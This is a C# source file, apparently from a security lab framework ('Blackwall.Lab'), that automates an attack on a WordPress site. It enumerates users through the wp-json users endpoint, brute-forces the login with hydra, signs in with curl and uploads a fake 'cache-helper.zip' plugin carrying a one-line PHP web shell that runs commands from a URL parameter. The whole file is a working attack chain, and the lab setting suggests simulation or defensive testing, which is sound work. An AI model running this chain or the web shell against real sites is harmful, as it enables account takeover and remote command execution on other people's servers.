using System.Net;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using Blackwall.Lab.Network;

namespace Blackwall.Lab.Tools;

/// <summary>Somebody who looks for a website's users, guesses a password with hydra, logs in with curl and uploads a plugin.</summary>
public static partial class WebIntruder
{
    private static readonly TimeSpan s_limit = TimeSpan.FromSeconds(120);

    /// <summary>What he brings.</summary>
    public const string PluginName = "cache-helper.zip";

    /// <summary>Works through it.</summary>
    /// <param name="words">File with passwords to try.</param>
    public static async Task<Loot> WorkAsync(LabHost host, RunFolder run, IPAddress target, string words, CancellationToken cancellation)
    {
        bool v6 = target.AddressFamily == System.Net.Sockets.AddressFamily.InterNetworkV6;
        string authority = v6 ? $"[{target}]" : $"{target}", home = $"http://{authority}";
        var users = await CurlAsync(host, [$"{home}/wp-json/wp/v2/users"], cancellation);
        var user = Slug(users);
        if (user is null)
        {
            return new Loot(null, null, users, "");
        }

        var guessing = await host.Network.TryAsync(
            ["hydra", "-I", "-f", "-l", user, "-P", words, "-t", "1", "-w", "10", v6 ? "-6" : "-4", $"http-post-form://{authority}:80/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=is incorrect"], s_limit, cancellation);
        if (Found().Match(guessing.Output) is not { Success: true } found)
        {
            return new Loot(user, null, guessing.Output, "");
        }

        var password = found.Groups["password"].Value;
        string jar = run.File($"jar-{Guid.NewGuid():N}"), plugin = run.File(PluginName);
        await File.WriteAllBytesAsync(plugin, [.. "PK\u0003\u0004<?php system($_GET[0]);"u8], cancellation);
        await CurlAsync(host, ["-c", jar, "-d", $"log={user}&pwd={password}&wp-submit=Log+In", $"{home}/wp-login.php"], cancellation);
        var list = await CurlAsync(host, ["-b", jar, $"{home}/wp-admin/users.php"], cancellation);
        var installed = await CurlAsync(host, ["-b", jar, "-F", $"pluginzip=@{plugin}", $"{home}/wp-admin/update.php?action=upload-plugin"], cancellation);
        return new Loot(user, password, list, installed);
    }

    private static async Task<string> CurlAsync(LabHost host, string[] arguments, CancellationToken cancellation) =>
        (await host.Network.TryAsync(["curl", "-s", "--max-time", "60", .. arguments], s_limit, cancellation)).Output;

    private static string? Slug(string users)
    {
        try
        {
            return JsonNode.Parse(users) is JsonArray { Count: > 0 } list ? (string?)list[0]!["slug"] : null;
        }
        catch (System.Text.Json.JsonException)
        {
            return null;
        }
    }

    [GeneratedRegex(@"login: \S+\s+password: (?<password>\S+)", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex Found();

    /// <summary>What he got.</summary>
    /// <param name="User">Null: the website told of nobody.</param>
    /// <param name="Password">Null: none was found.</param>
    /// <param name="Users">The page that lists users, or what came instead.</param>
    /// <param name="Installed">What the upload of the plugin answered.</param>
    public sealed record Loot(string? User, string? Password, string Users, string Installed);
}
